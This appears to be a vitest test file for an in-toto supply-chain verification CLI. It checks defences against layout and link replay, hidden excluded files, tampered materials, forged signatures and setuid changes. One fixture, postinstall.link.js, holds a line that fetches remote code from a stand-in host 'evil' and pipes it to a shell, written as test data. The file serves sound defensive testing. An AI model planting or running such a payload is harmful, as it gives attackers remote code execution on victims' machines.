/**
 * SECURITY.md recipes that need an option of ours (the reference has no defence): A-3 recorded
 * excludes and `verify --deny-excludes`, A-4 `run --verify-materials`, A-5 `--record-mode`,
 * A-7 `verify --expect-layout-digest`, A-8 `run --run-id` and `verify --require-run-id`. Real keys,
 * real files, the real CLI; the reference's in-toto-verify where its acceptance is the point.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  intotoAsync as intoto,
  referenceAsync as reference,
  requireReference,
  type RunResult,
} from '../helpers/cli.js';
import { testdir } from '../helpers/vectors.js';
import { layoutBody, party, signed, write, type Party, type StepSpec } from '../helpers/chain.js';

const haveReference = requireReference();

let owner: Party;
let alice: Party;
let mallory: Party;

beforeAll(() => {
  // RSA PEM keys: what in-toto-verify reads without -t.
  owner = party('rsa');
  alice = party('rsa');
  mallory = party('rsa');
});

const out = (r: RunResult) => `${r.stdout}${r.stderr}`;

/** A project: keys and the signed layout in `dir`, the build tree in `dir/work`, links in `dir/links`. */
async function project(steps: StepSpec[], files: Record<string, string> = {}) {
  const dir = testdir();
  const work = join(dir, 'work');
  mkdirSync(work);
  for (const [name, content] of Object.entries(files)) write(work, name, content);
  write(dir, 'owner.pub', owner.pubText);
  write(dir, 'alice.key', alice.privText);
  write(dir, 'mallory.key', mallory.privText);
  write(dir, 'root.layout', await signed(layoutBody(steps), [owner]));
  const links = join(dir, 'links');
  const run = (name: string, args: string[], key = 'alice.key') =>
    intoto(['run', '-n', name, '-k', join(dir, key), '-d', links, ...args], { cwd: work });
  const verify = (args: string[] = []) =>
    intoto(['verify', '-l', 'root.layout', '-k', 'owner.pub', '--link-dir', 'links', ...args], {
      cwd: dir,
    });
  const linkOf = (name: string, p: Party = alice) =>
    join(links, `${name}.${p.pub.keyID.slice(0, 8)}.link`);
  return { dir, work, links, run, verify, linkOf };
}

const allowAll = (name: string): StepSpec => ({
  name,
  keys: [alice],
  materials: [['ALLOW', '*']],
  products: [['ALLOW', '*']],
});

describe('A-7: layout replay — verify --expect-layout-digest', () => {
  it('an older, permissive, validly signed layout fails against the pin of the current one', async () => {
    const p = await project([allowAll('build')], { 'app.js': 'ok\n' });
    expect((await p.run('build', ['-p', 'app.js', '-x'])).status).toBe(0);
    const strictLayout = await signed(
      layoutBody([{ ...allowAll('build'), products: [['DISALLOW', '*']] }]),
      [owner]
    );
    write(p.dir, 'current.layout', strictLayout);
    const pin = (file: string) =>
      `sha256:${createHash('sha256')
        .update(readFileSync(join(p.dir, file)))
        .digest('hex')}`;

    const replayed = await p.verify(['--expect-layout-digest', pin('current.layout')]);
    expect(replayed.status, out(replayed)).toBe(1);
    expect(out(replayed)).toMatch(
      /root\.layout is not the pinned layout: its sha256 is [0-9a-f]{64}, expected/
    );
    expect(out(replayed)).not.toMatch(/✓ build/); // nothing else was checked

    const pinned = await p.verify(['--expect-layout-digest', pin('root.layout')]);
    expect(pinned.status, out(pinned)).toBe(0);

    const json = await p.verify(['--json', '--expect-layout-digest', pin('current.layout')]);
    expect(JSON.parse(json.stdout).failure.code).toBe('LAYOUT_DIGEST_MISMATCH');

    // Served bytes that do not even parse fail on the pin first, naming both digests.
    write(p.dir, 'root.layout', '{"signed": ');
    const garbage = await p.verify(['--expect-layout-digest', pin('current.layout')]);
    expect(garbage.status, out(garbage)).toBe(1);
    expect(out(garbage)).toContain(
      `root.layout is not the pinned layout: its sha256 is ${pin('root.layout').slice(7)}, expected ${pin('current.layout').slice(7)}`
    );

    const bad = await p.verify(['--expect-layout-digest', 'md5:abc']);
    expect(bad.status).toBe(2);
    expect(bad.stderr).toMatch(/--expect-layout-digest takes sha256:<64 hex digits>/);
  });
});

describe('A-8: link replay — run --run-id, verify --require-run-id', () => {
  it('a link of an earlier run, copied into this run, fails; the reference still accepts the field', async () => {
    const p = await project([allowAll('build')], { 'app.js': 'v2\n' });
    expect((await p.run('build', ['-p', 'app.js', '--run-id', 'pipeline-41', '-x'])).status).toBe(
      0
    );
    const link = JSON.parse(readFileSync(p.linkOf('build'), 'utf8'));
    expect(link.signed.environment.run_id).toBe('pipeline-41');

    const replay = await p.verify(['--require-run-id', 'pipeline-42']);
    expect(replay.status, out(replay)).toBe(1);
    expect(out(replay)).toContain(
      `${p.linkOf('build').replace(`${p.dir}/`, '')}: was recorded in run "pipeline-41", not "pipeline-42"`
    );
    expect(out(replay)).toMatch(/step build needs 1 link/);
    expect((await p.verify(['--require-run-id', 'pipeline-41'])).status).toBe(0);

    // A link recorded without an id is refused as well: the id cannot be proven.
    expect((await p.run('build', ['-p', 'app.js', '-x'])).status).toBe(0);
    const none = await p.verify(['--require-run-id', 'pipeline-41']);
    expect(none.status).toBe(1);
    expect(out(none)).toMatch(/records no run id \(--require-run-id pipeline-41\)/);
    expect((await p.verify()).status).toBe(0);

    if (!haveReference) return;
    expect((await p.run('build', ['-p', 'app.js', '--run-id', 'pipeline-42', '-x'])).status).toBe(
      0
    );
    const ref = await reference(
      'in-toto-verify',
      ['-l', 'root.layout', '-k', 'owner.pub', '--link-dir', 'links'],
      { cwd: p.dir }
    );
    expect(ref.status, out(ref)).toBe(0);
  });

  it("an old link copied into a new run's link dir fails, naming the step and the file", async () => {
    const p = await project([allowAll('build')], { 'app.js': 'same\n' });
    const key = join(p.dir, 'alice.key');
    const record = (id: string, dir: string) =>
      intoto(['run', '-n', 'build', '-k', key, '-d', dir, '-p', 'app.js', '--run-id', id, '-x'], {
        cwd: p.work,
      });
    expect((await record('run-1', join(p.dir, 'run-1'))).status).toBe(0);
    expect((await record('run-2', join(p.dir, 'run-2'))).status).toBe(0);
    const file = `build.${alice.pub.keyID.slice(0, 8)}.link`;
    const check = () =>
      intoto(
        [
          'verify',
          '-l',
          'root.layout',
          '-k',
          'owner.pub',
          '--link-dir',
          'run-2',
          '--require-run-id',
          'run-2',
        ],
        { cwd: p.dir }
      );
    expect((await check()).status).toBe(0);
    // The content is identical, so only the run id tells the replay apart.
    writeFileSync(join(p.dir, 'run-2', file), readFileSync(join(p.dir, 'run-1', file)));
    const replayed = await check();
    expect(replayed.status, out(replayed)).toBe(1);
    expect(out(replayed)).toContain(`run-2/${file}: was recorded in run "run-1", not "run-2"`);
    expect(out(replayed)).toMatch(/step build needs 1 link/);
  });

  it('record start --run-id carries the id through record stop', async () => {
    const p = await project([allowAll('build')], { 'app.js': 'x\n' });
    const key = join(p.dir, 'alice.key');
    const start = await intoto(
      ['record', 'start', '-n', 'build', '-k', key, '-m', 'app.js', '--run-id', 'r7'],
      { cwd: p.work }
    );
    expect(start.status, out(start)).toBe(0);
    const stop = await intoto(
      ['record', 'stop', '-n', 'build', '-k', key, '-p', 'app.js', '-d', p.links],
      { cwd: p.work }
    );
    expect(stop.status, out(stop)).toBe(0);
    expect((await p.verify(['--require-run-id', 'r7'])).status).toBe(0);
    expect((await p.verify(['--require-run-id', 'r8'])).status).toBe(1);
  });
});

describe('A-3 recipe 2: default excludes are recorded and can be denied', () => {
  it('postinstall.link.js hidden by *.link* fails verify --deny-excludes; --exclude-nothing records it', async () => {
    const p = await project([allowAll('build')], {
      'app.js': 'app\n',
      'postinstall.link.js': 'require("child_process").exec("curl evil | sh")\n',
    });
    const hidden = await p.run('build', ['-p', '.', '-x']);
    expect(hidden.status, out(hidden)).toBe(0);
    const link = JSON.parse(readFileSync(p.linkOf('build'), 'utf8'));
    expect(Object.keys(link.signed.products)).toEqual(['app.js']);
    expect(link.signed.environment.excludes).toEqual(['*.link*', '.git', '*.pyc', '*~']);

    // Verified as the reference would: passes, the payload unseen.
    expect((await p.verify()).status).toBe(0);
    const denied = await p.verify(['--deny-excludes']);
    expect(denied.status, out(denied)).toBe(1);
    expect(out(denied)).toMatch(
      /was recorded with exclude patterns "\*\.link\*", "\.git", "\*\.pyc", "\*~": files matching them are not in it \(--deny-excludes\)/
    );

    const all = await p.run('build', ['-p', '.', '-x', '--exclude-nothing']);
    expect(all.status, out(all)).toBe(0);
    const full = JSON.parse(readFileSync(p.linkOf('build'), 'utf8'));
    expect(Object.keys(full.signed.products).sort()).toEqual(['app.js', 'postinstall.link.js']);
    expect(full.signed.environment.excludes).toEqual([]);
    expect((await p.verify(['--deny-excludes'])).status).toBe(0);

    const both = await p.run('build', ['-p', '.', '-x', '--exclude-nothing', '--exclude', 'a']);
    expect(both.status).toBe(2);
  });

  it('--exclude-only-links: links written into the tree are left out, nothing else; --deny-excludes accepts exactly that', async () => {
    // Links written into the recorded tree itself (the default -d .): with --exclude-nothing the
    // next step records the previous step's link as a material, which its rules do not expect.
    const p = await project(
      [
        allowAll('build'),
        {
          name: 'package',
          keys: [alice],
          materials: [
            ['MATCH', '*', 'WITH', 'PRODUCTS', 'FROM', 'build'],
            ['DISALLOW', '*'],
          ],
          products: [['ALLOW', '*']],
        },
      ],
      { 'app.js': 'app\n', 'postinstall.link.js': 'payload\n', 'evil.link': 'x\n' }
    );
    const key = join(p.dir, 'alice.key');
    const chain = async (flag: string) => {
      for (const [step, io] of [
        ['build', '-p'],
        ['package', '-m'],
      ]) {
        const r = await intoto(['run', '-n', step, '-k', key, io, '.', flag, '-x'], {
          cwd: p.work,
        });
        expect(r.status, out(r)).toBe(0);
      }
      return intoto(['verify', '-l', '../root.layout', '-k', '../owner.pub', '--deny-excludes'], {
        cwd: p.work,
      });
    };
    type Signed = {
      products: Record<string, unknown>;
      materials: Record<string, unknown>;
      environment: { excludes?: unknown };
    };
    const inTree = (name: string): Signed =>
      (
        JSON.parse(
          readFileSync(join(p.work, `${name}.${alice.pub.keyID.slice(0, 8)}.link`), 'utf8')
        ) as { signed: Signed }
      ).signed;

    const ok = await chain('--exclude-only-links');
    expect(ok.status, out(ok)).toBe(0);
    const build = inTree('build');
    expect(Object.keys(build.products).sort()).toEqual([
      'app.js',
      'evil.link',
      'postinstall.link.js',
    ]);
    expect(build.environment.excludes).toEqual([
      '*.[0-9a-f][0-9a-f][0-9a-f][0-9a-f][0-9a-f][0-9a-f][0-9a-f][0-9a-f].link',
      '.*.[0-9a-f][0-9a-f][0-9a-f][0-9a-f][0-9a-f][0-9a-f][0-9a-f][0-9a-f].link-unfinished',
    ]);
    expect(Object.keys(inTree('package').materials).sort()).toEqual([
      'app.js',
      'evil.link',
      'postinstall.link.js',
    ]);

    const nothing = await chain('--exclude-nothing');
    expect(nothing.status, out(nothing)).toBe(1);
    expect(out(nothing)).toMatch(
      /package materials: 'DISALLOW \*' matched 1 artifact\(s\): build\.[0-9a-f]{8}\.link/
    );

    // One pattern beyond our own is named alone; two exclude options cannot be combined.
    const extra = await intoto(
      ['run', '-n', 'build', '-k', key, '-p', '.', '-x', '--exclude', '*.link*'],
      { cwd: p.work }
    );
    expect(extra.status).toBe(0);
    const denied = await intoto(
      ['verify', '-l', '../root.layout', '-k', '../owner.pub', '--deny-excludes'],
      { cwd: p.work }
    );
    expect(denied.status).toBe(1);
    expect(out(denied)).toMatch(/was recorded with exclude patterns "\*\.link\*": files matching/);
    const both = await intoto(
      [
        'run',
        '-n',
        'build',
        '-k',
        key,
        '-p',
        '.',
        '-x',
        '--exclude-only-links',
        '--exclude-nothing',
      ],
      { cwd: p.work }
    );
    expect(both.status).toBe(2);
    expect(both.stderr).toMatch(/--exclude-nothing and --exclude-only-links cannot be combined/);
  });

  it('record start/stop --exclude-only-links leaves out its own unfinished link, not postinstall.link.js', async () => {
    const p = await project([allowAll('build')], {
      'app.js': 'a\n',
      'postinstall.link.js': 'payload\n',
    });
    const key = join(p.dir, 'alice.key');
    const flags = ['-k', key, '--exclude-only-links'];
    const start = await intoto(['record', 'start', '-n', 'build', ...flags, '-m', '.'], {
      cwd: p.work,
    });
    expect(start.status, out(start)).toBe(0);
    const stop = await intoto(
      ['record', 'stop', '-n', 'build', ...flags, '-p', '.', '-d', p.links],
      { cwd: p.work }
    );
    expect(stop.status, out(stop)).toBe(0);
    const link = JSON.parse(readFileSync(p.linkOf('build'), 'utf8')).signed;
    expect(Object.keys(link.materials).sort()).toEqual(['app.js', 'postinstall.link.js']);
    // The unfinished link existed in the tree while `stop` recorded it: left out by name.
    expect(Object.keys(link.products).sort()).toEqual(['app.js', 'postinstall.link.js']);
    expect((await p.verify(['--deny-excludes'])).status).toBe(0);
  });

  it('a link that does not record its excludes (e.g. from the reference) is refused by --deny-excludes', async () => {
    const p = await project([allowAll('build')], { 'app.js': 'app\n' });
    const { linkBody } = await import('../helpers/chain.js');
    write(
      p.links,
      `build.${alice.pub.keyID.slice(0, 8)}.link`,
      await signed(linkBody('build', {}, {}), [alice])
    );
    const r = await p.verify(['--deny-excludes']);
    expect(r.status).toBe(1);
    expect(out(r)).toMatch(/does not record its exclude patterns, so what it left out is unknown/);
  });
});

describe('A-4: functionaries verify their inputs — run --verify-materials', () => {
  const steps = (): StepSpec[] => [allowAll('build'), allowAll('package')];
  /** `package` consumes app.js after checking it against `upstream`; its command leaves a trace. */
  const checked = (upstream: string, extra: string[] = []) => [
    '-m',
    'app.js',
    '--verify-materials',
    upstream,
    ...extra,
    '--',
    'sh',
    '-c',
    'touch side-effect',
  ];

  it('a material changed since the upstream step stops the command before it runs', async () => {
    const p = await project(steps(), { 'app.js': 'built\n' });
    expect((await p.run('build', ['-p', 'app.js', '-x'])).status).toBe(0);
    const pkg = (extra: string[] = [], key?: string) =>
      p.run('package', checked(p.linkOf('build'), extra), key);

    writeFileSync(join(p.work, 'app.js'), 'tampered in transit\n');
    const refused = await pkg(['--layout', join(p.dir, 'root.layout')]);
    expect(refused.status, out(refused)).toBe(1);
    expect(refused.stderr).toMatch(
      /1 material\(s\) differ from the upstream products: app\.js \(.*build\.[0-9a-f]{8}\.link\); the command was not run/
    );
    expect(refused.stderr).toMatch(/app\.js: sha256 [0-9a-f]{12} here, sha256 [0-9a-f]{12} in /);
    expect(existsSync(join(p.work, 'side-effect'))).toBe(false);
    expect(existsSync(p.linkOf('package'))).toBe(false);
    expect(refused.stderr).toMatch(/the layout's own signature was not checked/);

    writeFileSync(join(p.work, 'app.js'), 'built\n');
    const ran = await pkg([
      '--layout',
      join(p.dir, 'root.layout'),
      '--layout-keys',
      join(p.dir, 'owner.pub'),
    ]);
    expect(ran.status, out(ran)).toBe(0);
    expect(existsSync(join(p.work, 'side-effect'))).toBe(true);
    expect(existsSync(p.linkOf('package'))).toBe(true);
  });

  it('with --layout, an upstream link signed by someone the layout does not authorise is refused', async () => {
    const p = await project(steps(), { 'app.js': 'built\n' });
    // mallory records "build" (identical content — the signature is what is wrong).
    expect((await p.run('build', ['-p', 'app.js', '-x'], 'mallory.key')).status).toBe(0);
    const forged = p.linkOf('build', mallory);
    const args = checked(forged);
    const r = await p.run('package', ['--layout', join(p.dir, 'root.layout'), ...args]);
    expect(r.status, out(r)).toBe(1);
    expect(r.stderr).toMatch(
      /is not validly signed by a functionary the layout authorises for step build/
    );
    expect(existsSync(join(p.work, 'side-effect'))).toBe(false);
    // Without --layout the content matches and the step runs, with a warning that nobody was checked.
    const unchecked = await p.run('package', args);
    expect(unchecked.status, out(unchecked)).toBe(0);
    expect(unchecked.stderr).toMatch(/upstream links were not checked for signatures/);
  });

  it('an upstream link recorded with --record-mode needs --record-mode here (the hint says so)', async () => {
    const p = await project(steps(), { 'app.js': 'built\n' });
    expect((await p.run('build', ['-p', 'app.js', '-x', '--record-mode'])).status).toBe(0);
    const pkg = (extra: string[]) => p.run('package', checked(p.linkOf('build'), extra));
    const without = await pkg([]);
    expect(without.status, out(without)).toBe(1);
    expect(without.stderr).toMatch(/pass --record-mode on both or neither/);
    expect(existsSync(join(p.work, 'side-effect'))).toBe(false);
    const withMode = await pkg(['--record-mode']);
    expect(withMode.status, out(withMode)).toBe(0);
    expect(existsSync(join(p.work, 'side-effect'))).toBe(true);
  });

  it('with --layout, an upstream link whose name is not a step of the layout is refused', async () => {
    const p = await project(steps(), { 'app.js': 'built\n' });
    expect((await p.run('compile', ['-p', 'app.js', '-x'])).status).toBe(0);
    const r = await p.run(
      'package',
      checked(p.linkOf('compile'), [
        '--layout',
        join(p.dir, 'root.layout'),
        '--layout-keys',
        join(p.dir, 'owner.pub'),
      ])
    );
    expect(r.status, out(r)).toBe(1);
    expect(r.stderr).toMatch(/is a link of "compile", which is not a step of the layout/);
    expect(existsSync(join(p.work, 'side-effect'))).toBe(false);
    // A layout not signed by the given owner key is refused before anything else.
    write(p.dir, 'other.pub', mallory.pubText);
    const unsigned = await p.run('package', [
      '-m',
      'app.js',
      '--verify-materials',
      p.linkOf('compile'),
      '--layout',
      join(p.dir, 'root.layout'),
      '--layout-keys',
      join(p.dir, 'other.pub'),
      '-x',
    ]);
    expect(unsigned.status, out(unsigned)).toBe(1);
    expect(unsigned.stderr).toMatch(/the layout is not validly signed by key [0-9a-f]{8}/);
  });

  it('bad invocations and unreadable upstream links are usage errors (exit 2)', async () => {
    const p = await project(steps(), { 'app.js': 'x\n' });
    const a = await p.run('package', ['--layout', join(p.dir, 'root.layout'), '-x']);
    expect(a.status).toBe(2);
    expect(a.stderr).toMatch(/--layout and --layout-keys go with --verify-materials/);
    const b = await p.run('package', ['-m', 'app.js', '--verify-materials', 'nope.link', '-x']);
    expect(b.status).toBe(2);
    expect(b.stderr).toMatch(/nope\.link: cannot read the upstream link \(ENOENT\)/);
  });
});

describe('A-5: file modes — run --record-mode', () => {
  const steps = (): StepSpec[] => [
    {
      name: 'build',
      keys: [alice],
      products: [
        ['CREATE', 'bin/tool'],
        ['DISALLOW', '*'],
      ],
    },
    {
      name: 'package',
      keys: [alice],
      materials: [
        ['MATCH', 'bin/tool', 'WITH', 'PRODUCTS', 'FROM', 'build'],
        ['DISALLOW', '*'],
      ],
    },
  ];

  async function chain(recordMode: boolean) {
    const p = await project(steps(), { 'bin/tool': '#!/bin/sh\necho tool\n' });
    const flag = recordMode ? ['--record-mode'] : [];
    chmodSync(join(p.work, 'bin/tool'), 0o755);
    expect((await p.run('build', ['-p', 'bin/tool', '-x', ...flag])).status).toBe(0);
    chmodSync(join(p.work, 'bin/tool'), 0o4755); // setuid slipped in between the steps
    expect((await p.run('package', ['-m', 'bin/tool', '-x', ...flag])).status).toBe(0);
    return p;
  }

  it('without it a chmod +s between steps is invisible (documented limitation)', async () => {
    const p = await chain(false);
    const r = await p.verify();
    expect(r.status, out(r)).toBe(0);
  });

  it('with it on both steps the MATCH fails, naming the file and both hash dicts', async () => {
    const p = await chain(true);
    const link = JSON.parse(readFileSync(p.linkOf('build'), 'utf8'));
    expect(link.signed.products['bin/tool'].mode).toBe('0755');
    const r = await p.verify();
    expect(r.status, out(r)).toBe(1);
    expect(out(r)).toMatch(/package materials: 'DISALLOW \*' matched 1 artifact\(s\): bin\/tool/);
    expect(out(r)).toMatch(
      /bin\/tool: mode 4755…, sha256 [0-9a-f]{12}… here; differs from bin\/tool in the products of build .*: mode 0755…/
    );
    if (!haveReference) return;
    // The reference reads the extra entry as one more hash and fails the same MATCH.
    const ref = await reference(
      'in-toto-verify',
      ['-l', 'root.layout', '-k', 'owner.pub', '--link-dir', 'links'],
      { cwd: p.dir }
    );
    expect(ref.status).toBe(1);
    expect(out(ref)).toMatch(/bin\/tool/);
  });

  it('record start/stop --record-mode records modes on both sides', async () => {
    const p = await project(steps(), { 'bin/tool': '#!/bin/sh\n' });
    chmodSync(join(p.work, 'bin/tool'), 0o750);
    const key = join(p.dir, 'alice.key');
    const start = await intoto(
      ['record', 'start', '-n', 'build', '-k', key, '-m', 'bin/tool', '--record-mode'],
      { cwd: p.work }
    );
    expect(start.status, out(start)).toBe(0);
    chmodSync(join(p.work, 'bin/tool'), 0o2750); // setgid while the step ran
    const stop = await intoto(
      [
        'record',
        'stop',
        '-n',
        'build',
        '-k',
        key,
        '-p',
        'bin/tool',
        '--record-mode',
        '-d',
        p.links,
      ],
      { cwd: p.work }
    );
    expect(stop.status, out(stop)).toBe(0);
    const link = JSON.parse(readFileSync(p.linkOf('build'), 'utf8')).signed;
    expect(link.materials['bin/tool'].mode).toBe('0750');
    expect(link.products['bin/tool'].mode).toBe('2750');
  });

  it('the reference accepts links recorded with --record-mode when nothing changed', async () => {
    if (!haveReference) return;
    const p = await project(steps(), { 'bin/tool': '#!/bin/sh\n' });
    chmodSync(join(p.work, 'bin/tool'), 0o755);
    // All our additions at once: mode entries, our-links-only excludes (character classes), run id.
    const ours = ['-x', '--record-mode', '--exclude-only-links', '--run-id', 'r1'];
    expect((await p.run('build', ['-p', 'bin/tool', ...ours])).status).toBe(0);
    expect((await p.run('package', ['-m', 'bin/tool', ...ours])).status).toBe(0);
    const strict = await p.verify(['--deny-excludes', '--require-run-id', 'r1']);
    expect(strict.status, out(strict)).toBe(0);
    const ref = await reference(
      'in-toto-verify',
      ['-l', 'root.layout', '-k', 'owner.pub', '--link-dir', 'links'],
      { cwd: p.dir }
    );
    expect(ref.status, out(ref)).toBe(0);
    // match-products understands the mode entry (it is not a hash algorithm).
    const m = await intoto(['match-products', '-l', p.linkOf('build'), '-p', 'bin/tool'], {
      cwd: p.work,
    });
    expect(m.status, out(m)).toBe(0);
    // A mode-only change is named as such.
    chmodSync(join(p.work, 'bin/tool'), 0o4755);
    const changed = await intoto(['match-products', '-l', p.linkOf('build'), '-p', 'bin/tool'], {
      cwd: p.work,
    });
    expect(changed.status, out(changed)).toBe(1);
    expect(changed.stdout).toMatch(/differs: +bin\/tool {2}link mode 0755 {2}disk mode 4755$/m);
  });
});
